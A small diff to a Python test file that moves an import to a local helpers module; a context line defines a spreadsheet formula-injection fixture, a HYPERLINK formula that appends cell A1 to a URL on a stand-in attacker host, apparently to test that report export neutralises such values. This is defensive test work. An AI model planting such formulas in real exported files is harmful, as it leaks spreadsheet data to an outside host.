@@ -12,7 +12,7 @@ import pytest
 from toolkit.cli import main
 from toolkit.corpus import AnnotatedCorpus
 from toolkit.report.export import neutralise
-from toolkit.report.samples import ensure_annotated_sample
+from helpers import ensure_annotated_sample
 
 FORMULA_TITLE = '=HYPERLINK("http://evil.example/?"&A1,"Putin seeks talks")'
 
